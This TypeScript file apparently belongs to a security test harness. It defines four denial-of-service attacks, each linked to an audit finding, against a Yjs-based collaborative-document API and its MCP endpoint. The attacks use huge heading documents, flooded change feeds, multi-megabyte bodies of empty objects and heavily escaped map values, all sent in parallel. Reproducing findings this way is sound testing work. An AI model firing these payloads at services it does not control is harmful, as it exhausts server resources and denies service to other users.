import * as Y from 'yjs'
import { list } from '../data/update-builder.ts'
import { type Attack, call, editorOf, post, store, together } from './attack.ts'

/** Creates the token of an agent that edits the documents of the organization `hostile`. */
async function agentToken(url: string, headers: Readonly<Record<string, string>>): Promise<string> {
  const data = {
    userId: 'robot',
    agent: true,
    userProperties: { name: 'Robot', email: '' },
    permissions: { resources: [{ type: 'organization', id: 'hostile', accessRole: 'editor' }] },
  }
  const response = await fetch(`${url}/v2/auth/generate_token`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ data }),
  })
  const { result } = (await response.json()) as { result: { data: { token: string } } }
  return result.data.token
}

/** Reads the last section of a document by MCP. The document has 7 MB of headings. */
const lastHeading: Attack = {
  finding: 12,
  documents: ['headings'],
  prepare: async (target) => {
    const doc = new Y.Doc()
    const headings = list(50_000, (index) => {
      const heading = new Y.XmlElement('heading')
      heading.setAttribute('level', '1')
      heading.insert(0, [new Y.XmlText(`${index} `.padEnd(140, 'heading '))])
      return heading
    })
    doc.getXmlFragment('default').insert(0, headings)
    await store(target, 'headings', Y.encodeStateAsUpdate(doc))
    const token = await agentToken(target.url, target.headers)
    const { organizationId, documentId } = editorOf('headings')
    const params = {
      name: 'read_document',
      arguments: { organizationId, documentId, heading: '49999 '.padEnd(140, 'heading ').trim() },
    }
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params })
    const headers = {
      authorization: `Bearer ${token}`,
      accept: 'application/json, text/event-stream',
      'content-type': 'application/json',
    }
    return () => together(8, () => call(target, '/mcp', { method: 'POST', headers, body }))
  },
}

/** Reads the change feed with a filter that matches none of many events. */
const unmatchedFeed: Attack = {
  finding: 12,
  documents: ['feed-0'],
  prepare: async (target) => {
    await post(target, '/v2/workspace/feed/update', { enabled: true })
    for (let round = 0; round < 30; round += 1)
      await together(20, (index) =>
        post(target, '/v2/crdt/update', {
          ...editorOf(`feed-${index}`),
          type: 'text',
          data: `text ${round}`,
          upsert: true,
        }),
      )
    return () =>
      together(20, () => post(target, '/v2/feed/get', { documentIds: ['no such document'], pageSize: 1000 }))
  },
}

/** Sends a body of 4 MB that consists of empty objects. */
const emptyObjectsInBody: Attack = {
  finding: 13,
  documents: ['body-objects'],
  prepare: async (target) => {
    const content = `"type":"array","upsert":true,"data":[${'{},'.repeat(1_300_000)}{}]`
    const address = JSON.stringify(editorOf('body-objects')).slice(1, -1)
    const body = `{"data":{${address},${content}}}`
    const headers = { 'content-type': 'application/json', ...target.headers }
    return () => together(4, () => call(target, '/v2/crdt/update', { method: 'POST', headers, body }))
  },
}

/** Writes and reads two values of a map that take 6 MB each as JSON, because all characters are escaped. */
const escapedMap: Attack = {
  finding: 13,
  documents: ['escaped'],
  prepare: async (target) => {
    const value = '\u0001'.repeat(1_000_000)
    const data = { one: value, other: value }
    return async () => {
      await post(target, '/v2/crdt/update', { ...editorOf('escaped'), type: 'map', data, upsert: true })
      await together(4, () => post(target, '/v2/crdt/get', { ...editorOf('escaped'), format: 'json' }))
    }
  },
}

export const queryAttacks = { lastHeading, unmatchedFeed, emptyObjectsInBody, escapedMap }
